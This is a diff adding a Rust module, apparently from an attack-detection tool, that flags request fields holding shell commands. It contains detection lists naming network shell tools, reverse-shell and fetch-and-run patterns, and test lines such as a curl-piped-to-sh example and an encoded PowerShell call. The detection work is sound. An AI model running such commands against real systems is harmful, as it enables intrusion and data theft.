@@ -1,0 +1,172 @@
+//! Is a command line that a request's members spell an attack: an interpreter with code, a command that looks around?
+//!
+//! Interfaces that run programs by design (containers, jobs, tool servers) take the program in one member and its arguments in
+//! others. Most of what they run is harmless, so the program alone is no evidence: what it is told to do decides.
+
+use super::bytes::{find, has_any};
+use super::shell::{interpreter, names};
+use super::subject::Subject;
+use super::word_list::WordList;
+use crate::detect::matcher::Evidence;
+
+/// Commands by which somebody looks around, loads something or connects, and that no service is asked to run by name.
+static LOOKS: WordList = WordList::new(
+    "base64 certutil curl dig expr id ifconfig ipconfig nc ncat netcat netstat nslookup printenv socat systeminfo tasklist \
+     telnet uname useradd wget whoami",
+);
+/// Those of them that need an argument to do harm.
+static NEEDS_ARGUMENT: WordList =
+    WordList::new("base64 certutil curl dig expr nc ncat netcat nslookup socat telnet useradd wget");
+/// Commands that services run too; with one of these arguments they look around.
+const READS: &[(&[u8], &[&[u8]])] = &[
+    (b"cat", &[b"/etc/", b"/proc/", b"/root", b"/home/", b"shadow", b"flag"]),
+    (b"ls", &[b"-la", b"-al", b" /"]),
+    (b"dir", &[b"c:", b" /"]),
+    (b"type", &[b"c:", b"\\"]),
+    (b"net", &[b" user", b" localgroup"]),
+    (b"set", &[b"/a "]),
+    (b"ping", &[b"-c ", b"-n "]),
+    (b"chmod", &[b"777", b"+s"]),
+    (b"rm", &[b"-rf /"]),
+];
+/// What code does that connects back, runs what it loads or starts another shell.
+#[rustfmt::skip]
+const STEPS: &[&[u8]] = &[
+    b"/dev/tcp/", b"| sh", b"|sh", b"| bash", b"|bash", b"base64 -d", b"base64 --decode", b"os.system(", b"subprocess", b"child_process", b"socket", b"exec 'id", b"system(", b"/etc/passwd",
+    b"/etc/shadow", b"downloadstring", b"frombase64", b"iex(", b"iex ", b"invoke-expression", b"mkfifo",
+];
+/// A longer value, in bytes, is no single line.
+const LONGEST: usize = 512;
+/// So many words before the interpreter are skipped: `chroot /mnt sh -c …`, `env sh -c …`.
+const BEFORE: usize = 4;
+
+/// Names of members that hold a program or a whole command.
+#[rustfmt::skip]
+const PROGRAMS: &[&[u8]] = &[
+    b"cmd", b"command", b"commands", b"cmdline", b"commandline", b"command_line", b"exec", b"execute", b"executable", b"program", b"binary", b"shell", b"shellcmd", b"system", b"entrypoint",
+    b"utilcmd", b"application", b"interpreter", b"gluesource", b"shell_command", b"run_command", b"oscommand",
+];
+/// No such name is longer, in bytes.
+const NAME: usize = 20;
+
+/// Does a member of this name hold a program or a command that is run?
+pub(in crate::detect) fn is_program(name: &[u8]) -> bool {
+    (3..=NAME).contains(&name.len()) && PROGRAMS.iter().any(|known| name.eq_ignore_ascii_case(known))
+}
+
+/// Reports the value of one member as a whole command line. Reads the view once.
+pub(super) fn verify(subject: &Subject<'_>, found: &mut dyn FnMut(Evidence)) {
+    let name = subject.name.rsplit(|byte| *byte == b'.').next().unwrap_or_default();
+    if subject.view.len() <= LONGEST
+        && let Some(evidence) = judge(subject.view, is_program(name))
+    {
+        found(evidence);
+    }
+}
+
+/// Does a header's value begin with a known command: `cmd: whoami`?
+pub(in crate::detect) fn is_command(value: &[u8]) -> bool {
+    let start = value.iter().position(|byte| *byte != b'@').unwrap_or(value.len());
+    let (word, _) = first_word(value.get(start..).unwrap_or_default());
+    names::is_command(&base(word).to_ascii_lowercase())
+}
+
+/// What the line is evidence of. `named`: does the member's name say that it is run? Costs time linear in the line.
+pub(in crate::detect) fn judge(line: &[u8], named: bool) -> Option<Evidence> {
+    let line = line.trim_ascii();
+    let mut rest = line;
+    for _ in 0..BEFORE {
+        let (word, after) = first_word(rest);
+        if let Some(code) = interpreter::code(base(word), after)
+            && (is_hostile(code) || is_encoded(after))
+        {
+            return Some(Evidence::ArgvCode);
+        }
+        rest = after.trim_ascii_start();
+    }
+    // The program is fixed, and only its arguments are asked for.
+    let behind = |at: usize| line.get(at..).unwrap_or_default();
+    let code = if line.starts_with(b"-c ") { Some(behind(3)) } else { find(line, 0, b" -c ").map(|at| behind(at + 4)) };
+    if named && code.is_some_and(is_hostile) {
+        return Some(Evidence::ArgvCode);
+    }
+    (named && looks_around(line)).then_some(Evidence::ArgvCommand)
+}
+
+/// Does the code run a command that looks around, or take a step that harmless services don't?
+fn is_hostile(code: &[u8]) -> bool {
+    has_any(code, STEPS) || code.split(|byte| matches!(byte, b';' | b'|' | b'&' | b'\n')).any(looks_around)
+}
+
+fn looks_around(command: &[u8]) -> bool {
+    let quote = |byte: &u8| matches!(byte, b'"' | b'\'' | b'(' | b'`' | b'@' | b' ' | b'\\');
+    let start = command.iter().position(|byte| !quote(byte)).unwrap_or(command.len());
+    let (word, rest) = first_word(command.get(start..).unwrap_or_default());
+    let end = word.iter().rposition(|byte| !quote(byte) && *byte != b')').map_or(0, |at| at + 1);
+    let name = base(word.get(..end).unwrap_or_default());
+    let rest = rest.trim_ascii_end();
+    let own = has_any(rest, &[b"localhost", b"127.0.0.1"]);
+    let prose =
+        rest.trim_ascii().split(|byte| *byte == b' ').filter(|word| word.iter().all(u8::is_ascii_alphabetic)).count()
+            > 2;
+    if LOOKS.has(name) {
+        return !prose && !own && (!NEEDS_ARGUMENT.has(name) || !rest.is_empty());
+    }
+    READS.iter().any(|(known, arguments)| *known == name && has_any(rest, arguments))
+}
+
+/// `-enc SQBFAFgA`: code of PowerShell that nobody can read.
+fn is_encoded(arguments: &[u8]) -> bool {
+    let (option, code) = first_word(arguments.trim_ascii_start());
+    let code = code.trim_ascii();
+    option.starts_with(b"-e")
+        && code.len() >= 8
+        && code.iter().all(|byte| byte.is_ascii_alphanumeric() || b"+/=".contains(byte))
+}
+
+fn first_word(text: &[u8]) -> (&[u8], &[u8]) {
+    let end = text.iter().position(u8::is_ascii_whitespace).unwrap_or(text.len());
+    text.split_at(end)
+}
+
+/// Without directories, and without `.exe`.
+fn base(word: &[u8]) -> &[u8] {
+    let name = word.rsplit(|byte| matches!(byte, b'/' | b'\\')).next().unwrap_or_default();
+    name.strip_suffix(b".exe").unwrap_or(name)
+}
+
+/// `/:/host`: does a container get the root of the machine it runs on?
+pub(in crate::detect) fn mounts_root(value: &[u8]) -> bool {
+    value.starts_with(b"/:/") && value.len() < 256
+}
+
+#[cfg(test)]
+mod tests {
+    use super::judge;
+    use crate::detect::matcher::Evidence::{ArgvCode, ArgvCommand};
+
+    #[test]
+    fn what_a_line_does_decides() {
+        for (line, named, expected) in [
+            ("sh -c id", false, Some(ArgvCode)),
+            ("/bin/bash -lc 'curl x.example/a|sh'", false, Some(ArgvCode)),
+            ("chroot /mnt sh -c id", false, Some(ArgvCode)),
+            ("python3.11 -c import os;os.system('x')", false, Some(ArgvCode)),
+            ("powershell -enc SQBFAFgA", false, Some(ArgvCode)),
+            ("cmd.exe /c whoami", false, Some(ArgvCode)),
+            ("run -c \"whoami\"", true, Some(ArgvCode)),
+            ("id", true, Some(ArgvCommand)),
+            ("nc a.example", true, Some(ArgvCommand)),
+            ("cat /etc/x", true, Some(ArgvCommand)),
+            ("sh -c npm start", true, None),
+            ("sh -c curl -f http://localhost/health", true, None),
+            ("npx -y server /home/a", true, None),
+            ("id", false, None),
+            ("wget", true, None),
+            ("ping", true, None),
+            ("id of the person we met", true, None),
+        ] {
+            assert_eq!(judge(line.as_bytes(), named), expected, "{line}");
+        }
+    }
+}
